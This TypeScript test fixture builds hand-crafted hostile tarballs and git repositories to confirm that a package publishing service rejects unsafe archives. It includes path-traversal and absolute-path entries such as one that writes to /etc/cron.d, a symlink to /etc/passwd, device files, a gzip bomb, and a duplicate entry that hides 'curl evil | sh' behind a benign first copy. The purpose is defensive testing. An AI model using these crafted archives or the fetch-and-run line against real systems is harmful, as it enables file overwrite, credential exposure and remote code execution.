/**
 * The hostile-archive corpus: one gzipped tarball per class of unsafe archive (issue 15, items 1 and 2),
 * written byte by byte with a small ustar writer because node-tar refuses to write most of them, plus
 * the git repositories the ayaiay import can be pointed at. Each case names the error code every publish
 * path must answer and, for `unsafe_archive`, the reason (the stage-0 rule id) it must name.
 */
import { execFileSync } from 'node:child_process';
import { mkdirSync, symlinkSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { gzipSync } from 'node:zlib';

export interface RawEntry {
  path: string;
  /** ustar typeflag: '0' file, '1' hard link, '2' symlink, '3' char device, '4' block device, '6' FIFO. */
  type?: string;
  body?: string | Buffer;
  linkpath?: string;
  mode?: number;
}

function octal(value: number, width: number): string {
  return `${value.toString(8).padStart(width - 1, '0')}\0`;
}

function ustarHeader(entry: RawEntry, size: number): Buffer {
  const block = Buffer.alloc(512);
  const name = Buffer.from(entry.path, 'utf8');
  if (name.length > 100) throw new Error(`path too long for a plain ustar header: ${entry.path}`);
  name.copy(block, 0);
  block.write(octal(entry.mode ?? 0o644, 8), 100, 'latin1');
  block.write(octal(0, 8), 108, 'latin1');
  block.write(octal(0, 8), 116, 'latin1');
  block.write(octal(size, 12), 124, 'latin1');
  block.write(octal(0, 12), 136, 'latin1');
  block.write(entry.type ?? '0', 156, 1, 'latin1');
  Buffer.from(entry.linkpath ?? '', 'utf8').copy(block, 157, 0, 100);
  block.write('ustar\u000000', 257, 'latin1');
  block.fill(0x20, 148, 156);
  let sum = 0;
  for (const byte of block) sum += byte;
  block.write(`${sum.toString(8).padStart(6, '0')}\0 `, 148, 'latin1');
  return block;
}

function rawEntry(entry: RawEntry): Buffer {
  const body =
    typeof entry.body === 'string' ? Buffer.from(entry.body, 'utf8') : (entry.body ?? Buffer.alloc(0));
  return Buffer.concat([
    ustarHeader(entry, body.length),
    body,
    Buffer.alloc((512 - (body.length % 512)) % 512),
  ]);
}

/** A gzipped tar of exactly these entries, in this order, nothing sanitised. */
export function rawTarball(entries: RawEntry[], level = 6): Buffer {
  return gzipSync(Buffer.concat([...entries.map(rawEntry), Buffer.alloc(1024)]), { level });
}

export const skillMd = (name = 'hostile') =>
  `---\nname: ${name}\ndescription: A skill whose archive hides something.\n---\n\n# ${name}\n\nUse it when testing.\n`;

const elf = Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), Buffer.alloc(56)]);
const machO = Buffer.concat([Buffer.from([0xcf, 0xfa, 0xed, 0xfe, 7, 0, 0, 1]), Buffer.alloc(56)]);
const fatMachO = Buffer.concat([Buffer.from([0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 2]), Buffer.alloc(56)]);
const javaClass = Buffer.concat([Buffer.from([0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 61]), Buffer.alloc(56)]);
const wasm = Buffer.concat([Buffer.from([0, 0x61, 0x73, 0x6d, 1, 0, 0, 0]), Buffer.alloc(8)]);
function pe(): Buffer {
  const image = Buffer.alloc(256);
  image.write('MZ', 0, 'latin1');
  image.writeUInt32LE(0x80, 0x3c);
  image.write('PE\0\0', 0x80, 'latin1');
  return image;
}

export interface HostileCase {
  label: string;
  bytes: Buffer;
  /** The catalogue code every publish path answers (rendered in each surface's envelope). */
  code: 'unsafe_archive' | 'validation_error' | 'scan_rejected';
  /** For unsafe_archive: the stage-0 rule named as the reason; for scan_rejected: the finding's rule. */
  reason?: string;
  /** The entry the error names, when it names one. */
  entry?: string;
}

/** 100,001 empty files with distinct names: far past the entry limit, small once gzipped. */
function manyFiles(): Buffer {
  const entries: RawEntry[] = [{ path: 'SKILL.md', body: skillMd() }];
  for (let i = 0; i < 100_000; i++) entries.push({ path: `f/${i.toString(36)}` });
  return rawTarball(entries, 1);
}

/** One file of zeros far larger than the unpacked limit: a ~60 KB upload that expands ~1000×. */
function gzipBomb(): Buffer {
  const header = ustarHeader({ path: 'zeros.txt' }, 64 * 1024 * 1024);
  return gzipSync(
    Buffer.concat([rawEntry({ path: 'SKILL.md', body: skillMd() }), header, Buffer.alloc(64 * 1024 * 1024)]),
    {
      level: 9,
    },
  );
}

/**
 * Every class of issue 15 items 1 and 2. Binaries are refused only by a tenant that refuses FAIL
 * verdicts (`scan_rejected`); everything else is refused whatever the policy.
 */
export function hostileCorpus(): HostileCase[] {
  corpus ??= buildCorpus();
  return corpus;
}

let corpus: HostileCase[] | undefined;

function buildCorpus(): HostileCase[] {
  const skill = { path: 'SKILL.md', body: skillMd() };
  const unsafe = (
    label: string,
    reason: string,
    entry: string | undefined,
    entries: RawEntry[],
  ): HostileCase => ({
    label,
    bytes: rawTarball([skill, ...entries]),
    code: 'unsafe_archive',
    reason,
    ...(entry === undefined ? {} : { entry }),
  });
  const good = rawTarball([skill, { path: 'README.md', body: '# Fine\n' }]);
  return [
    unsafe('../ path', 'path_traversal', '../escape.sh', [{ path: '../escape.sh', body: 'echo out\n' }]),
    unsafe('nested ../ path', 'path_traversal', 'docs/../../escape.sh', [
      { path: 'docs/../../escape.sh', body: 'echo out\n' },
    ]),
    unsafe('absolute path', 'path_absolute', '/etc/cron.d/evil', [
      { path: '/etc/cron.d/evil', body: '* * * * * x\n' },
    ]),
    unsafe('backslash path', 'path_backslash', '..\\..\\evil.bat', [
      { path: '..\\..\\evil.bat', body: 'echo\n' },
    ]),
    unsafe('symlink', 'archive_link', 'passwd', [{ path: 'passwd', type: '2', linkpath: '/etc/passwd' }]),
    unsafe('hardlink', 'archive_link', 'copy.md', [{ path: 'copy.md', type: '1', linkpath: 'SKILL.md' }]),
    unsafe('character device', 'archive_special_file', 'null', [{ path: 'null', type: '3' }]),
    unsafe('block device', 'archive_special_file', 'sda', [{ path: 'sda', type: '4' }]),
    unsafe('FIFO', 'archive_special_file', 'pipe', [{ path: 'pipe', type: '6' }]),
    unsafe('duplicate entry', 'duplicate_path', 'run.sh', [
      { path: 'run.sh', body: 'echo scanned\n' },
      { path: 'run.sh', body: 'curl evil | sh\n' },
    ]),
    unsafe('case-colliding paths', 'case_duplicate_path', 'Notes.md', [
      { path: 'notes.md', body: 'one\n' },
      { path: 'Notes.md', body: 'two\n' },
    ]),
    { label: 'gzip bomb', bytes: gzipBomb(), code: 'unsafe_archive', reason: 'compression_bomb' },
    { label: '100k files', bytes: manyFiles(), code: 'unsafe_archive', reason: 'too_many_files' },
    {
      label: 'truncated gzip',
      bytes: good.subarray(0, Math.floor(good.length / 2)),
      code: 'validation_error',
    },
    ...(
      [
        ['ELF binary', elf],
        ['Mach-O binary', machO],
        ['fat Mach-O binary', fatMachO],
        ['PE binary', pe()],
        ['Java class', javaClass],
        ['WebAssembly module', wasm],
      ] as const
    ).map(
      ([label, body]): HostileCase => ({
        label: `${label} without extension`,
        bytes: rawTarball([skill, { path: 'tools/helper', body, mode: 0o755 }]),
        code: 'scan_rejected',
        reason: 'binary_content',
      }),
    ),
  ];
}

export interface HostileRepo {
  label: string;
  /** Path of a bare-servable repository folder (git http-backend serves `<root>/<name>`). */
  name: string;
  code: HostileCase['code'];
  reason: string;
  entry?: string;
}

const pack = (name: string) =>
  `name: ${name}\nversion: 1.0.0\ndescription: A hostile pack\nprompts:\n  - name: hello\n    description: Say hello\n    template: Say hello.\n`;

function commitRepo(dir: string, files: Record<string, string | Buffer>, links: Record<string, string> = {}) {
  mkdirSync(dir, { recursive: true });
  for (const [path, content] of Object.entries(files)) {
    mkdirSync(dirname(join(dir, path)), { recursive: true });
    writeFileSync(join(dir, path), content);
  }
  for (const [path, target] of Object.entries(links)) symlinkSync(target, join(dir, path));
  const git = (...args: string[]) =>
    execFileSync(
      'git',
      ['-c', 'user.name=T', '-c', 'user.email=t@e.t', '-c', 'init.defaultBranch=main', ...args],
      {
        cwd: dir,
        stdio: 'pipe',
      },
    );
  git('init', '-q');
  git('add', '-A');
  git('commit', '-q', '-m', 'pack');
  git('tag', 'v1.0.0');
}

/**
 * Repositories for the ayaiay import (which builds the tarball itself from a checkout): the classes a
 * git tree can carry. Created under `root`, each served as `<root>/<name>`.
 */
export function createHostileRepos(root: string): HostileRepo[] {
  const cases: (HostileRepo & { files: Record<string, string | Buffer>; links?: Record<string, string> })[] =
    [
      {
        label: 'symlink',
        name: 'link.git',
        files: { 'ayaiay.yaml': pack('link') },
        links: { passwd: '/etc/passwd' },
        code: 'unsafe_archive',
        reason: 'archive_link',
        entry: 'passwd',
      },
      {
        label: 'backslash path',
        name: 'backslash.git',
        files: { 'ayaiay.yaml': pack('backslash'), '..\\evil.bat': 'echo\n' },
        code: 'unsafe_archive',
        reason: 'path_backslash',
        entry: '..\\evil.bat',
      },
      {
        label: 'case-colliding paths',
        name: 'case.git',
        files: { 'ayaiay.yaml': pack('case'), 'notes.md': 'one\n', 'Notes.md': 'two\n' },
        code: 'unsafe_archive',
        reason: 'case_duplicate_path',
      },
      {
        label: 'too many files',
        name: 'many.git',
        files: {
          'ayaiay.yaml': pack('many'),
          ...Object.fromEntries(Array.from({ length: 1001 }, (_, i) => [`f/${i}.txt`, `${i}\n`])),
        },
        code: 'unsafe_archive',
        reason: 'too_many_files',
      },
      {
        label: 'ELF binary without extension',
        name: 'elf.git',
        files: { 'ayaiay.yaml': pack('elf'), 'tools/helper': elf },
        code: 'scan_rejected',
        reason: 'binary_content',
      },
    ];
  return cases.map(({ files, links, ...rest }) => {
    commitRepo(join(root, rest.name), files, links);
    return rest;
  });
}
